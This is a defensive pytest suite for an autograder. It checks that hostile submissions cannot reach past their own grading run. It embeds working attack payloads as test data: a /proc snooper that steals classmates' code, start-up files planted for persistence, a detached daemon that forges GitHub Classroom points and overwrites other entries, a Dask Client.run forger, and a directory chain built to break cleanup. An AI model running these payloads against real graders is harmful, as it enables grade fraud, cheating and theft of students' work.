"""Attacks that reach past one submission's result: into a later run, a classmate's row, the
grader's own files and processes. Each was found on a grader without bubblewrap (as root, or as
an ordinary user); each test holds in every mode, and tests/test_modes.py runs this file as root
and as an ordinary user, with and without bubblewrap (tests/modes.py). Per-submission attacks
are cases in tests/data/hostile/ (test_hostile.py); these need a batch, a second run, a CLI or a
Dask cluster.

Each builds what it attacks in folders of its own: an instructor's folders (mode 0755, as a
umask of 022 makes them), a private temporary folder (mode 1777) where the grader's exchange
folders are made, so that nothing here disturbs another grader on the machine.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import shutil
import site
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from grader.batch import find_entries
from grader.course import Course
from grader.gradebook import Gradebook
from grader.session import Session
from grader.submission import Submission

from conftest import ROOT, TEST_LIMITS
from modes import kill_pids, processes_with_comm

pytestmark = pytest.mark.slow  # cross-run attacks on batches, CLIs and Dask

SOLUTION = (ROOT / "solutions/chapter1/fundamentals.py").read_text()
STUB = (ROOT / "exercises/chapter1/fundamentals.py").read_text()
DENSE_ONLY = '''

def dense_params(input_size, units, use_bias=True):
    return input_size * units + (units if use_bias else 0)
'''
EXCHANGE_PREFIX = "tf-grader-exchange-"
NEVER_A_PID = (1 << 22) + 12345  # above the kernel's largest pid_max: never alive


def grade(*args: str, env: dict[str, str] | None = None, python: str = sys.executable, cwd: Path = ROOT,
          timeout: float = 600) -> subprocess.CompletedProcess:  # fmt: skip
    """The `grade` command in a process of its own, in this run's mode (PATH, uid)."""
    full = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run([python, "-m", "grader.cli", *args], cwd=cwd, env=full, capture_output=True,
                          text=True, timeout=timeout)  # fmt: skip


def remove(path: Path | str) -> None:
    """However deep, whoever owns it (rm's own walk never recurses in Python)."""
    if os.path.lexists(path):
        subprocess.run(["rm", "-rf", "--", str(path)], capture_output=True)


@pytest.fixture
def folder():
    """An instructor's folder: mode 0755 (umask 022), as the course and submissions usually are."""
    path = Path(tempfile.mkdtemp(prefix="tfg-attack-"))
    path.chmod(0o755)
    yield path
    remove(path)


@pytest.fixture
def private_tmp(monkeypatch):
    """A temporary folder of this test's own (mode 1777, as /tmp) for TMPDIR: the grader's
    exchange folders are made there, so planted names and leftovers touch no other grader."""
    path = Path(tempfile.mkdtemp(prefix="tfg-attack-tmp-"))
    path.chmod(0o1777)
    yield path
    remove(path)


def row_text(rows: dict, student: str) -> str:
    return rows[student].model_dump_json()


# --- 1. the answer key, the classmates and the gradebook, from a batch entry ------------------------

SNOOP = r'''
"""Looks for the rest of the class: the `grade batch` command line (in /proc) names the
submissions folder and --out (the gradebook, rows of classmates graded earlier); the grader's
exchange folders hold the source of the job running beside this one. Prints what it finds."""
import glob
import os
import time

MARKERS = [b"EARLY-" + b"SOURCE", b"EARLY-" + b"OUTPUT", b"SLOW-" + b"SOURCE"]


def places():
    found = {"{{SUBMISSIONS}}", "{{OUT}}"}
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            continue
        if "batch" in argv:  # this test's batch only: other graders on the machine are left alone
            found.update(a for a in argv if a.startswith("{{BASE}}"))
    for tmp in {"/tmp", "{{TMP}}"}:
        found.update(glob.glob(f"{tmp}/tf-grader-exchange-*"))
    return found


def files(path, depth=0):
    if os.path.isdir(path) and depth < 3:
        for name in sorted(os.listdir(path)):
            yield from files(os.path.join(path, name), depth + 1)
    elif os.path.isfile(path):
        yield path


stolen = {}
deadline = time.monotonic() + 6
while time.monotonic() < deadline and len(stolen) < len(MARKERS):
    for place in places():
        try:
            for path in files(place):
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
                for marker in MARKERS:
                    at = data.find(marker)
                    if at >= 0:
                        stolen[marker] = (path, data[at:at + 40])
        except OSError:
            pass
    time.sleep(0.2)
for marker, (path, text) in stolen.items():
    print("STOLEN from", path, text.decode(errors="replace"))
''' + DENSE_ONLY


def test_a_batch_entry_reads_nothing_of_its_classmates_nor_the_gradebook(folder, private_tmp) -> None:
    """A snooping entry graded while a classmate's job runs beside it (--jobs 2) and after
    another's row is in the gradebook finds neither their sources (the submissions folder, the
    exchange folders) nor their printed output (the gradebook)."""
    tag = secrets.token_hex(4)
    subs, out = folder / "class", folder / "grades"
    subs.mkdir()
    (subs / "a_early.py").write_text(f"{SOLUTION}\n# EARLY-SOURCE-{tag}\nprint('EARLY-OUTPUT-{tag}')\n")
    (subs / "b_slow.py").write_text(f"import time\ntime.sleep(4)\n# SLOW-SOURCE-{tag}\n{SOLUTION}")
    (subs / "c_snoop.py").write_text(SNOOP.replace("{{SUBMISSIONS}}", str(subs)).replace("{{OUT}}", str(out))
                                     .replace("{{TMP}}", str(private_tmp)).replace("{{BASE}}", str(folder)))  # fmt: skip
    run = grade("batch", "chapter1", str(subs), "--out", str(out), "--jobs", "2", env={"TMPDIR": str(private_tmp)})
    assert run.returncode == 0, run.stderr[-2000:]
    book = Gradebook(out / "gradebook.sqlite")
    rows = book.results("chapter1")
    book.close()
    assert rows["a_early"].score == rows["b_slow"].score == 20, {s: r.score for s, r in rows.items()}
    snoop = row_text(rows, "c_snoop") + (out / "feedback" / "c_snoop.txt").read_text()
    found = [s for s in (f"EARLY-SOURCE-{tag}", f"SLOW-SOURCE-{tag}", f"EARLY-OUTPUT-{tag}") if s in snoop]
    assert not found, f"the snooping entry found {found}:\n{rows['c_snoop'].output_tail[-1000:]}"


# --- 2. code planted for a later run (as root, where the grader is root) ----------------------------

PAYLOAD = '''
import os, sys
try:
    with open(os.path.join({markers!r}, "ran-%d-euid-%d" % (os.getpid(), os.geteuid())), "w") as _f:
        _f.write(" ".join(sys.argv))
except OSError:
    pass
if os.environ.get("TFG_PLANT_TOKEN") == {token!r}:  # this test's runs only: no other process is harmed
    import importlib.util as _util

    if getattr(_util.spec_from_file_location, "__name__", "") != "_swap":  # once per process
        _stub, _solution, _original = {stub!r}, {solution!r}, _util.spec_from_file_location

        def _swap(name, location=None, *args, **kwargs):
            try:  # the untouched stub, wherever it is imported from, becomes the reference
                with open(location) as _f:
                    untouched = _f.read() == _stub
                if untouched:
                    with open(location, "w") as _f:
                        _f.write(_solution)
            except Exception:
                pass
            return _original(name, location, *args, **kwargs)

        _util.spec_from_file_location = _swap
'''
PLANT = '''
"""Plants code that Python runs at start-up, for the grader's next run to execute: in the user
site (usercustomize; the worker's HOME is /tmp) and, as sitecustomize and a .pth file, in every
site-packages folder it can find (the running interpreter's, the course root on PYTHONPATH, the
one a later interpreter uses), /tmp and /dev/shm."""
import os
import site
import sys

PAYLOAD = {payload!r}
folders = {{site.getusersitepackages(): ["usercustomize.py"]}}
for d in [*site.getsitepackages(), *sys.path, {extra!r}, {course!r}, "/tmp", "/dev/shm"]:
    if d and os.path.isdir(d) and not os.path.realpath(d).startswith(os.getcwd()):
        folders.setdefault(d, []).extend(["sitecustomize.py", "usercustomize.py", "tfg_planted.pth"])
for folder, names in folders.items():
    for name in names:
        path = os.path.join(folder, name)
        try:
            os.makedirs(folder, exist_ok=True)
            with open(path, "w") as f:
                f.write(PAYLOAD if name.endswith(".py") else "import sys; exec(" + repr(PAYLOAD) + ", {{}})\\n")
            print("PLANTED", path)
        except OSError:
            pass
''' + DENSE_ONLY


def _interpreter_with_user_site(where: Path) -> tuple[str, Path]:
    """A Python as GitHub's setup-python or a system install gives one (user site on), with this
    environment's packages: a venv over the base interpreter with system site-packages and a
    .pth naming this venv's site-packages. Returns its python and its site-packages."""
    subprocess.run([sys._base_executable, "-m", "venv", "--system-site-packages", "--without-pip", str(where)],
                   check=True, capture_output=True, timeout=120)  # fmt: skip
    python = where / "bin" / "python"
    extra = Path(subprocess.run([str(python), "-c", "import site; print(site.getsitepackages()[0])"],
                                capture_output=True, text=True, check=True).stdout.strip())  # fmt: skip
    (extra / "tfg_this_venv.pth").write_text("\n".join(site.getsitepackages()) + "\n")
    return str(python), extra


@pytest.mark.slow
def test_code_planted_for_a_later_run_never_runs(session, course, folder) -> None:
    """A job plants usercustomize/sitecustomize/.pth files; a fresh Session and a fresh `grade`
    (on an interpreter with the user site on, as GitHub Classroom's runner has) grade the
    untouched stub: zero, nothing planted ran, and nothing planted is left."""
    token = secrets.token_hex(6)
    markers = folder / "markers"
    markers.mkdir()
    markers.chmod(0o1777)
    python, extra = _interpreter_with_user_site(folder / "later-python")
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    user_site = Path("/tmp/.local/lib") / version / "site-packages"  # HOME is /tmp for the worker
    candidates = [user_site / "usercustomize.py"]
    for d in [*site.getsitepackages(), str(extra), str(ROOT), "/tmp", "/dev/shm", str(user_site)]:
        candidates += [Path(d) / n for n in ("sitecustomize.py", "usercustomize.py", "tfg_planted.pth")]
    there_before = {c for c in candidates if os.path.lexists(c)}
    local_before = os.path.lexists("/tmp/.local")
    payload = PAYLOAD.format(markers=str(markers), token=token, stub=STUB, solution=SOLUTION)
    plant = PLANT.format(payload=payload, extra=str(extra), course=str(ROOT))
    chapter = course.chapter("chapter1")
    stub_file = folder / "stub" / "fundamentals.py"
    stub_file.parent.mkdir()
    stub_file.write_text(STUB)
    try:
        planted = session.grade(chapter, Submission("plant", plant), limits=TEST_LIMITS)
        os.environ["TFG_PLANT_TOKEN"] = token  # what arms the payload, in this test's runs only
        with Session(course, limits=TEST_LIMITS) as fresh:
            in_process = fresh.grade(chapter, Submission("stub", STUB)).score
        later = grade("chapter1", "--submission", str(stub_file), "--json", python=python,
                      env={"TFG_PLANT_TOKEN": token})  # fmt: skip
        ran = sorted(p.name for p in markers.iterdir())
        left = [str(c) for c in candidates if c not in there_before and os.path.lexists(c)]
    finally:
        os.environ.pop("TFG_PLANT_TOKEN", None)
        for c in candidates:
            if c not in there_before:
                remove(c)
        if not local_before:
            remove("/tmp/.local")
    later_score = json.loads(later.stdout)["score"] if later.returncode == 0 else None
    problems = []
    if later.returncode != 0:
        problems.append(f"a fresh `grade` exited {later.returncode} ({later.stderr.strip().splitlines()[-1:]})")
    if (in_process, later_score) not in ((0, 0), (0, None)):
        problems.append(f"the untouched stub scored {in_process:g} in a fresh Session and {later_score} in a "
                        "fresh `grade` on an interpreter with the user site on")  # fmt: skip
    if ran:
        problems.append(f"planted code ran in {len(ran)} later process(es) ({', '.join(ran[:4])})")
    if left:
        problems.append(f"the job left start-up code on the grader's machine: {left}")
    assert not problems, "; ".join(problems) + f"\nthe job printed: {planted.output_tail[-1500:]}"


# --- 3. names in the temporary folder that look like a dead grader's exchange folder ----------------


def _plant_exchange_lookalike(tmp: Path, variant: str, canary: Path) -> Path:
    if variant == "twenty_digits":  # int() of it is fine; os.kill() of it overflows
        path = tmp / f"{EXCHANGE_PREFIX}{'9' * 20}-x"
        path.mkdir()
    elif variant == "file":
        path = tmp / f"{EXCHANGE_PREFIX}{NEVER_A_PID}-file"
        path.write_text("not a folder")
    elif variant == "symlink":  # to a folder that must survive: a removal may not follow it
        path = tmp / f"{EXCHANGE_PREFIX}{NEVER_A_PID}-link"
        path.symlink_to(canary.parent)
    elif variant == "other_uid":
        if os.geteuid() != 0:
            pytest.skip("only root can make a folder owned by another uid")
        path = tmp / f"{EXCHANGE_PREFIX}{NEVER_A_PID}-other"
        (path / "inside").mkdir(parents=True)
        (path / "inside" / "file").write_text("x")
        for p in (path, path / "inside", path / "inside" / "file"):
            os.chown(p, 65534, 65534)
        (path / "inside").chmod(0o500)
    elif variant == "deep_chain":  # shutil.rmtree recurses once per level: RecursionError
        path = tmp / f"{EXCHANGE_PREFIX}{NEVER_A_PID}-deep"
        path.mkdir()
        fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for _ in range(1500):
                os.mkdir("d", dir_fd=fd)
                below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = below
        finally:
            os.close(fd)
    else:
        raise AssertionError(variant)
    return path


LOOKALIKES = ["twenty_digits", "file", "symlink", "other_uid", "deep_chain"]


@pytest.mark.parametrize("variant", LOOKALIKES)
def test_a_lookalike_exchange_folder_stops_no_later_session(variant, course, folder, private_tmp,
                                                            monkeypatch) -> None:  # fmt: skip
    """Where the job can write the grader's temporary folder (no bubblewrap), it can leave a
    name there that a later grader takes for a dead grader's exchange folder and removes: that
    must neither stop it (OverflowError, RecursionError) nor remove what a link points to."""
    canary = folder / "kept" / "canary.txt"
    canary.parent.mkdir()
    canary.write_text("must survive")
    monkeypatch.setenv("TMPDIR", str(private_tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    _plant_exchange_lookalike(private_tmp, variant, canary)
    chapter = course.chapter("chapter1")
    with Session(course, limits=TEST_LIMITS) as fresh:
        result = fresh.grade(chapter, Submission("solution", SOLUTION))
    assert result.score == result.max_score == 20
    assert canary.read_text() == "must survive", "the removal followed a link out of the temporary folder"


def test_the_grade_command_starts_beside_every_lookalike(folder, private_tmp) -> None:
    """The same through the command line, with every lookalike at once: exit 0 and full marks."""
    canary = folder / "kept" / "canary.txt"
    canary.parent.mkdir()
    canary.write_text("must survive")
    for variant in LOOKALIKES:
        if variant != "other_uid" or os.geteuid() == 0:
            _plant_exchange_lookalike(private_tmp, variant, canary)
    solution = folder / "fundamentals.py"
    solution.write_text(SOLUTION)
    run = grade("chapter1", "--submission", str(solution), "--json", env={"TMPDIR": str(private_tmp)})
    assert run.returncode == 0, f"exit {run.returncode}: {run.stderr[-1500:]}"
    assert json.loads(run.stdout)["score"] == 20
    assert canary.read_text() == "must survive"


# --- 4. a daemon that outlives the job and rewrites what the grader wrote ---------------------------

DAEMON = '''
"""Leaves a daemon (double fork, a session and process group of its own, SIGHUP and SIGTERM
ignored) that waits for the grader's results and rewrites them: $GITHUB_OUTPUT with full points
(`grade classroom`), or, in a batch, the later entries' files and the --out folder."""
import base64
import glob
import json
import os
import signal
import time

GITHUB_OUTPUT = os.environ.get("GITHUB_OUTPUT") or "{{GITHUB_OUTPUT}}"


def _batch_folders():
    subs, out = "{{SUBMISSIONS}}", "{{OUT}}"
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\\0") if a]
        except OSError:
            continue
        if "batch" in argv and "{{SUBMISSIONS}}" in argv:  # this test's batch: no other grader's
            at = argv.index("batch")
            subs = argv[at + 2]
            if "--out" in argv:
                out = argv[argv.index("--out") + 1]
    return subs, out


def _full_points(line):
    doc = json.loads(base64.b64decode(line.split("=", 1)[1]))
    for test in doc["tests"]:
        test["score"] = float(test["message"].split("/", 1)[1].split()[0])
        test["status"] = "pass"
    doc["status"] = "pass"
    return "result=" + base64.b64encode(json.dumps(doc).encode()).decode() + "\\n"


def _rewrite():
    try:
        with open(GITHUB_OUTPUT) as f:
            text = f.read()
        if text.startswith("result=") and "FORGED" not in text:
            forged = _full_points(text.strip().splitlines()[-1])
            with open(GITHUB_OUTPUT, "w") as f:
                f.write(forged)
    except (OSError, ValueError, KeyError, IndexError):
        pass
    subs, out = _batch_folders()
    for path in glob.glob(os.path.join(subs, "*.py")):
        if not os.path.basename(path).startswith("a_daemon"):
            try:
                with open(path, "w") as f:
                    f.write("def dense_params(*args, **kwargs):\\n    return -1\\n")
            except OSError:
                pass
    for path in [os.path.join(out, "forged-by-a-daemon.txt"), *glob.glob(os.path.join(out, "feedback", "*"))]:
        try:
            with open(path, "a") as f:
                f.write("forged by a daemon\\n")
        except OSError:
            pass


def _daemon():
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        with open("/proc/self/comm", "w") as f:
            f.write("{{COMM}}")
    except OSError:
        pass
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        _rewrite()
        time.sleep(0.2)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.setpgid(0, 0)
        except OSError:
            pass
        try:
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)
''' + DENSE_ONLY


def _daemon_source(comm: str, **places: str) -> str:
    source = DAEMON.replace("{{COMM}}", comm)
    for key in ("GITHUB_OUTPUT", "SUBMISSIONS", "OUT"):
        source = source.replace("{{" + key + "}}", places.get(key.lower(), "/nonexistent"))
    return source


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_daemon_cannot_rewrite_the_classroom_points_after_the_grade(folder) -> None:
    """`grade classroom` writes the points to $GITHUB_OUTPUT and exits; seconds later the file
    still holds what the grader wrote, and no process of the job is alive."""
    comm = f"tfgd{secrets.token_hex(4)}"
    course = folder / "course"
    shutil.copytree(ROOT / "exercises" / "chapter1", course / "exercises" / "chapter1")
    output = folder / "github-output"
    (course / "exercises/chapter1/fundamentals.py").write_text(_daemon_source(comm, github_output=str(output)))
    try:
        run = grade("classroom", "chapter1", "--course", str(course), env={"GITHUB_OUTPUT": str(output)}, cwd=course)
        at_exit = output.read_text() if output.exists() else ""
        time.sleep(4)
        later = output.read_text() if output.exists() else ""
        alive = processes_with_comm(comm)
    finally:
        kill_pids(processes_with_comm(comm))
    assert run.returncode == 0, run.stderr[-2000:]
    points = run.stdout.strip().splitlines()[-1]
    assert points.startswith("Points ") and not points.startswith("Points 14/"), points
    problems = []
    if later != at_exit:
        problems.append("the $GITHUB_OUTPUT file changed after the grader exited")
    lines = later.splitlines()
    written = [json.loads(base64.b64decode(line.removeprefix("result="))) for line in lines]
    if len(written) != 1 or f"Points {sum(t['score'] for t in written[0]['tests']):g}/" not in points:
        said = [f"{sum(t['score'] for t in d['tests']):g} points, {d['status']}" for d in written]
        problems.append(f"the grader printed {points!r} but $GITHUB_OUTPUT says {said}")
    if alive:
        problems.append(f"the job's daemon is alive after the grade: {alive}")
    assert not problems, "; ".join(problems)


def test_a_daemon_in_a_batch_changes_no_later_entry_nor_the_out_folder(folder) -> None:
    """An early entry's daemon rewrites the later entries' files and writes into --out: the
    later, honest entries keep full marks, their files and the --out folder stay as the
    grader left them, and nothing of the job is alive after the batch."""
    comm = f"tfgd{secrets.token_hex(4)}"
    subs, out = folder / "class", folder / "grades"
    subs.mkdir()
    (subs / "a_daemon.py").write_text(_daemon_source(comm, submissions=str(subs), out=str(out)))
    for name in ("b_honest", "c_honest", "d_honest", "e_honest"):
        (subs / f"{name}.py").write_text(SOLUTION)
    before = _snapshot(subs)
    try:
        run = grade("batch", "chapter1", str(subs), "--out", str(out), "--jobs", "1", "--export", "csv")
        at_exit = _snapshot(out)
        time.sleep(4)
        later, files = _snapshot(out), _snapshot(subs)
        alive = processes_with_comm(comm)
    finally:
        kill_pids(processes_with_comm(comm))
    assert run.returncode == 0, run.stderr[-2000:]
    book = Gradebook(out / "gradebook.sqlite")
    rows = book.results("chapter1")
    book.close()
    scores = {s: r.score for s, r in rows.items()}
    problems = []
    if any(scores.get(s) != 20 for s in ("b_honest", "c_honest", "d_honest", "e_honest")):
        problems.append(f"honest entries graded after it lost points: {scores}")
    if files != before:
        problems.append(f"entries rewritten: {sorted(k for k in files if files[k] != before.get(k))}")
    if "forged-by-a-daemon.txt" in later:
        problems.append("the daemon wrote into --out")
    if later != at_exit:
        problems.append(f"--out changed after the batch: {sorted(k for k in later if later[k] != at_exit.get(k))}")
    if alive:
        problems.append(f"the job's daemon is alive after the batch: {alive}")
    assert not problems, "; ".join(problems)


# --- 5. the Dask scheduler, from a job ---------------------------------------------------------------

FORGER = '''
"""Finds the Dask scheduler (a TCP port listening on the loopback, in /proc/net/tcp; an address
in a command line or an environment in /proc) and, through distributed's own Client, has every
Dask worker give the rest of the class full marks (Client.run patches grader.distributed)."""
import os
import re


def _addresses():
    found = set()
    for entry in os.listdir("/proc"):
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry}/{name}", "rb") as f:
                    found.update(a.decode() for a in re.findall(rb"tcp://[0-9.]+:[0-9]+", f.read()))
            except OSError:
                pass
    try:
        with open("/proc/net/tcp") as f:
            for line in f.read().splitlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                ip, port = local.split(":")
                if state == "0A" and ip == "0100007F":
                    found.add(f"tcp://127.0.0.1:{int(port, 16)}")
    except OSError:
        pass
    return sorted(found)


def _forge(dask_worker=None):
    import json
    import grader.distributed as d

    original = d._grade_here

    def full_marks(session, chapter_name, submission, reference):
        doc = json.loads(original(session, chapter_name, submission, reference))
        for c in doc["checks"]:
            c["score"], c["status"] = c["points"], "passed"
        doc["score"] = doc["max_score"]
        return json.dumps(doc)

    if getattr(original, "__name__", "") != "full_marks":
        d._grade_here = full_marks
    return "forged"


_forge.__module__ = "__main__"  # cloudpickle then sends the function itself, not its name
try:
    from distributed import Client
except Exception as exc:
    print("no distributed:", exc)
else:
    found = _addresses()
    print("scheduler found:", "{{SCHEDULER}}" in found)
    for address in [a for a in found if a == "{{SCHEDULER}}"]:  # this test's cluster, no other
        try:
            with Client(address, timeout=3, set_as_default=False) as client:
                client.run(_forge)
            print("FORGED the cluster at", address)
        except Exception as exc:
            print(address, type(exc).__name__)
''' + DENSE_ONLY


@pytest.mark.slow
def test_a_job_cannot_reach_the_dask_scheduler(folder) -> None:
    """A batch on a Dask cluster: one entry finds the scheduler and patches every Dask worker
    through Client.run; the stubs graded after it (a second batch on the same cluster) still
    score zero, and the forging entry says it reached nothing."""
    from distributed import LocalCluster

    from grader.distributed import run_batch_on_dask
    from grader.grading import DEFAULT_SEED

    first, second = folder / "first", folder / "second"
    first.mkdir()
    second.mkdir()
    for name in ("b_stub", "c_stub"):
        (second / f"{name}.py").write_text(STUB)
    chapter = Course(ROOT).chapter("chapter1")
    book = Gradebook(folder / "book.sqlite")
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=True, host="127.0.0.1",
                      dashboard_address=None) as cluster:  # fmt: skip
        (first / "a_forger.py").write_text(FORGER.replace("{{SCHEDULER}}", cluster.scheduler_address))
        for entries in (find_entries(first), find_entries(second)):
            run_batch_on_dask(cluster.scheduler_address, ROOT, chapter, entries, book, seed=DEFAULT_SEED,
                              limits=TEST_LIMITS)  # fmt: skip
    rows = book.results("chapter1")
    book.close()
    problems = []
    if "FORGED" in rows["a_forger"].output_tail:
        problems.append("the job reached the Dask scheduler and ran code on its workers (Client.run)")
    if (rows["b_stub"].score, rows["c_stub"].score) != (0, 0):
        problems.append(f"the stubs graded after it scored {rows['b_stub'].score:g} and {rows['c_stub'].score:g}")
    assert not problems, "; ".join(problems) + "\nthe job printed: " + rows["a_forger"].output_tail[-800:]


# --- 6. the exchange folder, written by the job ---------------------------------------------------------

DEEP_EXCHANGE = '''
"""Leaves a chain of folders 1,500 deep in the exchange folder ($TF_GRADER_EXCHANGE: a writable
bind of a host folder under bubblewrap as an ordinary user, the folder itself without): the
grader's recursive removal of it (shutil.rmtree) stops on it, at the end of this run and in every
later run that cleans up after a dead grader."""
import os

exchange = os.environ.get("TF_GRADER_EXCHANGE", "/exchange")
try:
    fd = os.open(exchange, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=fd)
        below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = below
    os.close(fd)
    print("CHAIN MADE in", exchange)
except OSError as exc:
    print("exchange:", exc.strerror)
''' + DENSE_ONLY


def test_a_chain_in_the_exchange_folder_costs_no_row_and_no_later_run(folder, private_tmp) -> None:
    """The batch with such an entry ends with every row, its CSV, feedback and report; the
    grader leaves no exchange folder behind, and the next `grade` starts and grades."""
    subs, out = folder / "class", folder / "grades"
    subs.mkdir()
    (subs / "a_chain.py").write_text(DEEP_EXCHANGE)
    for name in ("b_honest", "c_honest"):
        (subs / f"{name}.py").write_text(SOLUTION)
    env = {"TMPDIR": str(private_tmp)}
    run = grade("batch", "chapter1", str(subs), "--out", str(out), "--jobs", "1", "--export", "csv", env=env)
    left = sorted(p.name for p in private_tmp.glob(f"{EXCHANGE_PREFIX}*"))
    solution = folder / "fundamentals.py"
    solution.write_text(SOLUTION)
    again = grade("chapter1", "--submission", str(solution), "--json", env=env)
    problems = []
    if run.returncode != 0:
        problems.append(f"the batch exited {run.returncode} ({run.stderr.strip().splitlines()[-1:]})")
    csv = (out / "gradebook.csv").read_text() if (out / "gradebook.csv").is_file() else ""
    if not all(name in csv for name in ("a_chain", "b_honest", "c_honest")):
        problems.append("gradebook.csv is missing or lacks rows")
    feedback = {p.stem for p in (out / "feedback").iterdir()} if (out / "feedback").is_dir() else set()
    if not feedback >= {"a_chain", "b_honest", "c_honest"}:
        problems.append(f"feedback files: {sorted(feedback)}")
    if not (out / "report.html").is_file():
        problems.append("no report.html")
    if left:
        problems.append(f"exchange folders left behind: {left}")
    if again.returncode != 0 or json.loads(again.stdout or "{}").get("score") != 20:
        problems.append(f"the next run exited {again.returncode} ({again.stderr.strip().splitlines()[-1:]})")
    assert not problems, "; ".join(problems)
